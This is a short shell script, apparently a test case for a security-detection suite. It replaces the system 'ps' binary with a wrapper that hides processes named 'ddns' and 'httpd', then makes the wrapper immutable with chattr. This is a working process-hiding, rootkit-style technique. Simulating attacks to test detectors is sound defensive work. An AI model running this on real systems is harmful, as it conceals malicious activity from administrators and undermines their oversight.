#!/bin/sh
. /opt/case/case.sh

mv /usr/bin/ps /usr/bin/ps.original
printf '#! /bin/bash\nps.original "$@" | grep -v "ddns\\|httpd"\n' >/usr/bin/ps
chmod a+x /usr/bin/ps
chattr +i /usr/bin/ps 2>/dev/null || true
ps -e | grep -q ps.original
took_place
